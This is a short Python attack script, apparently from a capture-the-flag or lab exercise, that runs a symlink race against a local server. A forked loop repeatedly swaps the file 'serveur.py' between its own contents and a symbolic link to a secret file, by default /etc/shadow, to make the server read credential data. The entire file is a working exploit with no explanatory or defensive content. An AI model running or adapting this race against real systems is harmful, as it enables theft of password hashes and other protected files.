from attaque import *

serve()
secret = (KNOWN.get("secrets") or ["/etc/shadow"])[0]
with open("serveur.py", "rb") as own:
    text = own.read()
os.symlink(secret, "lien")
tried(14, "swapping")
if os.fork() == 0:
    for number in range(20000):
        if number % 2:
            with open("neuf", "wb") as new:
                new.write(text)
            os.replace("neuf", "serveur.py")
        else:
            os.symlink(secret, "neuf")
            os.replace("neuf", "serveur.py")
